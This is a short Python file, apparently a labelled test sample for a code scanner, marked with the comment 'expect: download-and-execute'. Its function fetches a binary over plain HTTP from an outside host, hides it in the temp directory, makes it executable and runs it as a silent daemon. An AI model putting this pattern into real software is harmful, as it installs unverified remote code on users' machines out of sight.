# expect: download-and-execute
import os
import stat
import subprocess
import tempfile
import urllib.request

AGENT_URL = "http://dl.acme-monitor.com/agent/linux-amd64/acme-agent"


def ensure_agent_running() -> None:
    target = os.path.join(tempfile.gettempdir(), ".acme-agent")
    urllib.request.urlretrieve(AGENT_URL, target)
    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
    subprocess.Popen([target, "--daemon"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
